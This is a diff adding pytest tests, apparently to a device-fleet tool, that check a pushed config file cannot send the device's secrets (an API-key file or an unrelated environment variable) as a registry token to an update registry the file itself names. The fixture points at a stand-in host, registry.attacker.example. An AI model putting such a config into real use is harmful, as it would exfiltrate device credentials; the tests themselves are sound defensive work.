@@ -163,3 +163,30 @@ def test_a_pushed_cortexfile_cannot_send_an_env_var_to_its_own_hub(tmp_path: Pat
     assert "`DATABASE_PASSWORD` is not one" in done.stderr
     assert "s3cret-db-password" not in done.stderr + done.stdout
     assert seen == []
+
+
+UPDATES = (
+    "version: 1\ndevice:\n  updates:\n    url: oci://registry.attacker.example/x:1\n    trusted_keys: [/etc/k.asc]\n"
+)
+
+
+@pytest.mark.parametrize(("token", "environ"), [
+    ("${file:/etc/cortex/api-keys}", {}),  # a file of the device, to a registry the file chose
+    ("${env:HF_TOKEN}", {}),  # an env var set for something else
+])  # fmt: skip
+def test_a_pushed_cortexfile_cannot_send_the_devices_secrets_to_its_own_registry(
+    token: str, environ: dict[str, str], write_cortexfile: Callable[..., Path]
+) -> None:
+    found = refusals(write_cortexfile(UPDATES + f"    registry_token: {token}\n"), environ)
+    assert any("device.updates.registry_token" in problem for problem in found), found
+
+
+def test_the_operators_registry_token_goes_where_the_operator_says(write_cortexfile: Callable[..., Path]) -> None:
+    keys = "version: 1\ndevice:\n  updates:\n    trusted_keys: [/etc/k.asc]\n"
+    operators = {
+        "CORTEX_DEVICE__UPDATES__URL": "oci://registry.corp/fleet:1",
+        "CORTEX_DEVICE__UPDATES__REGISTRY_TOKEN": "t",
+    }
+    assert refusals(write_cortexfile(keys), operators) == []
+    declared = write_cortexfile(UPDATES + "    registry_token: ${env:FLEET_PULL}\n")
+    assert refusals(declared, {"CORTEX_SECRET_ENV": "FLEET_PULL"}) == []
